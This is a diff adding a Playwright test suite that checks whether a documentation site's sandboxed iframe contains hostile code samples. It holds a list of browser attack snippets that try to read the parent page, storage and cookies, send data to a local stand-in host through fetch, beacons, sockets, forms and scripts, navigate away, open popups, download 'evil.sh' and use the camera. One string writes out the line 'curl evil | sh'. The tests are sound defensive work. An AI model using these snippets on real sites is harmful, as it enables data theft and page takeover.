@@ -1,0 +1,151 @@
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { expect, test, type Page } from '@playwright/test';
+import { desktop, open } from './page';
+
+test.use({ viewport: desktop });
+
+/** A host that receives what hostile code sends out. */
+let server: Server;
+let host = '';
+const received: string[] = [];
+
+test.beforeAll(async () => {
+  server = createServer((request, response) => {
+    received.push(request.url ?? '');
+    response.end('received');
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  host = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+});
+test.afterAll(() => {
+  server.close();
+});
+
+/** Runs hostile code in place of a sample, and returns what it reports, or `blocked` if it throws. */
+async function attack(page: Page, code: string): Promise<string> {
+  const url = '**/docs/run/v4/*.js';
+  await page.route(url, (route) =>
+    route.fulfill({
+      contentType: 'text/javascript',
+      body: `const host = ${JSON.stringify(host)};
+        window.sampleFrame.showPackages('an attack');
+        const attempt = async () => { ${code} };
+        const outcome = await attempt().catch((error) => 'blocked: ' + error);
+        export const sampleCalls = [];
+        export const sampleValues = { outcome };
+        export const sampleAfter = '';`,
+    }),
+  );
+  await page.locator('.code-block__run [data-run]').first().click();
+  const line = page.frameLocator('iframe').getByRole('listitem').first();
+  // A frame that leaves its document shows nothing.
+  const outcome = await line.textContent({ timeout: 5000 }).catch(() => 'gone');
+  await page.unroute(url);
+  return outcome ?? '';
+}
+
+const BLOCKED = /blocked: (SecurityError|TypeError|EvalError|NotAllowedError)/;
+
+/** Attempts to reach the page, its data, and other hosts. `outcome`: what the code itself sees. */
+const attempts: [name: string, code: string, outcome: RegExp][] = [
+  ['read the page', 'return parent.document.title', BLOCKED],
+  ['change the page', "parent.document.querySelector('code').textContent = 'curl evil | sh'; return 1", BLOCKED],
+  ['cover the page', "parent.document.body.append(document.createElement('dialog')); return 1", BLOCKED],
+  ["read the site's storage", 'return parent.localStorage.length', BLOCKED],
+  ["use the storage of the frame's host", 'return Object.keys(localStorage).join()', /^outcome = ''$/],
+  ["delete the site's databases", "return String(indexedDB.deleteDatabase('a'))", BLOCKED],
+  ["read the site's caches", 'return caches.keys()', BLOCKED],
+  ["read the site's cookies", 'return document.cookie', /^outcome = ''$/],
+  ['fetch from another host', "return fetch(host + '/fetch')", BLOCKED],
+  ['fetch from the site', "return fetch('/docs/')", BLOCKED],
+  ['fetch with the page', "return parent.fetch('/docs/')", BLOCKED],
+  ['send a beacon', "return navigator.sendBeacon(host + '/beacon') && 'queued'", /outcome/],
+  ['load an image', "new Image().src = host + '/image'; return 1", /outcome/],
+  ['open a socket', "new WebSocket(host.replace('http', 'ws') + '/socket'); return 1", /outcome/],
+  [
+    'submit a form',
+    "const form = document.createElement('form'); form.action = host + '/form'; document.body.append(form); form.submit(); return 1",
+    /outcome/,
+  ],
+  [
+    'nest a frame',
+    "const frame = document.createElement('iframe'); frame.src = host + '/nested'; document.body.append(frame); return 1",
+    /outcome/,
+  ],
+  [
+    'add a script',
+    "const script = document.createElement('script'); script.src = host + '/script'; document.body.append(script); return 1",
+    /outcome/,
+  ],
+  ['evaluate a string', "return eval('1')", BLOCKED],
+  ['leave the page', "top.location.href = host + '/top'; return 1", BLOCKED],
+  [
+    'leave the page with a link',
+    "const link = document.createElement('a'); link.href = host + '/link'; link.target = '_top'; document.body.append(link); link.click(); return 1",
+    /outcome/,
+  ],
+  ['open a popup', "return String(window.open(host + '/popup'))", /^outcome = 'null'$/],
+  ['open a popup with the page', "return parent.open(host + '/popup')", BLOCKED],
+  [
+    'open a popup with a link',
+    "const link = document.createElement('a'); link.href = host + '/blank'; link.target = '_blank'; document.body.append(link); link.click(); return 1",
+    /outcome/,
+  ],
+  [
+    'download a file',
+    "const link = document.createElement('a'); link.href = 'data:text/plain,evil'; link.download = 'evil.sh'; document.body.append(link); link.click(); return 1",
+    /outcome/,
+  ],
+  ['go to another host in the frame', "location.href = host + '/self'; return new Promise(() => {})", /^gone$/],
+  [
+    'go to another host with a refresh',
+    "const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=' + host + '/refresh'; document.head.append(meta); return new Promise(() => {})",
+    /^gone$/,
+  ],
+  ['register a service worker', "return navigator.serviceWorker.register('/docs/worker.js')", BLOCKED],
+  [
+    'use the camera',
+    'return Object.getPrototypeOf(navigator.mediaDevices).getUserMedia.call(navigator.mediaDevices, { video: true })',
+    BLOCKED,
+  ],
+  [
+    'ask for the position',
+    'return new Promise((resolve) => navigator.geolocation.getCurrentPosition(() => resolve("position"), ({ code }) => resolve("denied " + code)))',
+    /denied 1/,
+  ],
+  ['grow over the page', "document.body.style.height = '1e7px'; return 1", /outcome/],
+];
+
+for (const [name, code, outcome] of attempts)
+  test(`a hostile sample can't ${name}`, async ({ page, context }) => {
+    received.length = 0;
+    const [downloads, popups]: [string[], string[]] = [[], []];
+    page.on('download', (download) => downloads.push(download.url()));
+    context.on('page', (popup) => popups.push(popup.url()));
+    await open(page, '/docs/apis/preferences');
+    await page.evaluate(() => localStorage.setItem('secret', '1'));
+    const text = await page.locator('article').innerText();
+    expect(await attack(page, code)).toMatch(outcome);
+    expect(await page.locator('article').innerText()).toContain(text.slice(0, 500));
+    expect(new URL(page.url()).pathname).toBe('/docs/apis/preferences');
+    expect(await page.evaluate(() => localStorage.getItem('secret'))).toBe('1');
+    const height = await page.locator('iframe').evaluate((frame) => frame.getBoundingClientRect().height);
+    expect(height).toBeLessThanOrEqual(4000);
+    expect({ received, downloads, popups }).toEqual({ received: [], downloads: [], popups: [] });
+  });
+
+test('the frame runs nothing in a window of its own', async ({ page }) => {
+  const requests: string[] = [];
+  page.on('request', (request) => requests.push(new URL(request.url()).pathname));
+  for (const hash of ['', '#v4/1a2b3c4d', '#v4/1a2b3c4d!']) {
+    await page.goto(`/docs/run/frame${hash}`);
+    await page.evaluate(() => {
+      window.postMessage({ kind: 'run', code: 'document.title = 1', needsClick: false, look: { variables: {} } }, '*');
+    });
+    await expect(page.getByRole('button', { name: 'Run' })).toBeVisible();
+    await expect(page.locator('body')).not.toHaveAttribute('data-state');
+    expect(await page.evaluate(() => window.origin)).toBe('null');
+  }
+  expect(requests.filter((path) => path !== '/docs/run/frame' && path !== '/favicon.ico')).toEqual([]);
+});
